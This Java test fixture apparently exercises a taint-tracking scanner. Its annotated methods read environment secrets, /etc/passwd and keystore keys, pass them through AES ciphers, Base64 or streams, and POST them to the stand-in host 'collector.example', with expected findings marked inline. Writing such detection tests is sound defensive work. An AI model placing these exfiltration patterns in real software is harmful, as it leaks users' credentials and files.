// javax.crypto, java.security, Commons Codec, Bouncy Castle: ciphers, digests, keys.
package app;

import java.io.*;
import java.security.*;
import javax.crypto.*;
import javax.crypto.spec.*;
import org.apache.commons.codec.binary.Base64;
import org.apache.commons.codec.digest.DigestUtils;
import org.springframework.web.client.RestTemplate;

class Crypto {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void encrypted() {
        Cipher cipher = Cipher.getInstance("AES"); //~ capability(CRYPTO)
        rest.postForObject(U, cipher.doFinal(System.getenv("T").getBytes()), String.class); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1
    }

    void encryptedParts(Cipher cipher) {
        cipher.update(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f2
        rest.postForObject(U, cipher.doFinal(), String.class); //~ sink(egress.http) f2, finding(traced) f2
    }

    void encryptedInto(Cipher cipher) {
        byte[] out = new byte[100];
        cipher.doFinal(System.getenv("T").getBytes(), 0, 10, out); //~ source(ENVIRONMENT) f3
        rest.postForObject(U, out, String.class); //~ sink(egress.http) f3, finding(traced) f3
    }

    void encryptedConstants() {
        Cipher cipher = Cipher.getInstance("AES"); //~ ok
        cipher.init(1, new SecretKeySpec(System.getenv("T").getBytes(), "AES")); //~ ok
        byte[] out = new byte[100];
        cipher.update(new byte[1]); //~ ok
        cipher.doFinal(new byte[1], 0, 1, out); //~ ok
        rest.postForObject(U, out, String.class); //~ ok
        rest.postForObject(U, cipher.doFinal(), String.class); //~ ok
    }

    void encryptedStream(Cipher cipher) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new CipherOutputStream(out, cipher).write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f4
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f4, finding(traced) f4
        new CipherOutputStream(new ByteArrayOutputStream(), cipher).write(1); //~ ok
    }

    void decryptedStream(Cipher cipher, InputStream given) {
        CipherInputStream in = new CipherInputStream(new FileInputStream("/etc/passwd"), cipher); //~ source(FILE) f5
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f5, finding(traced) f5
        rest.postForObject(U, new CipherInputStream(given, cipher).readAllBytes(), String.class); //~ ok
    }

    void key() {
        SecretKeySpec key = new SecretKeySpec(System.getenv("T").getBytes(), "AES"); //~ source(ENVIRONMENT) f6
        rest.postForObject(U, key.getEncoded(), String.class); //~ sink(egress.http) f6, finding(traced) f6
        rest.postForObject(U, new SecretKeySpec(new byte[1], "AES").getEncoded(), String.class); //~ ok
    }

    void hashed() {
        MessageDigest digest = MessageDigest.getInstance("SHA-256"); //~ capability(CRYPTO)
        rest.postForObject(U, digest.digest(System.getenv("T").getBytes()), String.class); //~ ok
        MessageDigest.getInstance("SHA-256"); //~ ok
        rest.postForObject(U, DigestUtils.sha256Hex(System.getenv("T")), String.class); //~ ok
    }

    void stored() {
        KeyStore store = KeyStore.getInstance("JKS"); //~ capability(CREDENTIALS)
        rest.postForObject(U, store.getKey("a", null).getEncoded(), String.class); //~ source(CREDENTIAL) f7, sink(egress.http) f7, finding(traced) f7
        rest.postForObject(U, store.getKey("a", null) == null, String.class); //~ ok
        KeyStore.getInstance("JKS"); //~ ok
    }

    void storedGiven(KeyStore store) {
        store.getKey("a", null); //~ capability(CREDENTIALS)
    }

    void encoded() {
        rest.postForObject(U, Base64.encodeBase64String(System.getenv("T").getBytes()).trim(), String.class); //~ source(ENVIRONMENT) f8, sink(egress.http) f8, finding(traced) f8
        rest.postForObject(U, Base64.encodeBase64String(new byte[1]).trim(), String.class); //~ ok
    }
}
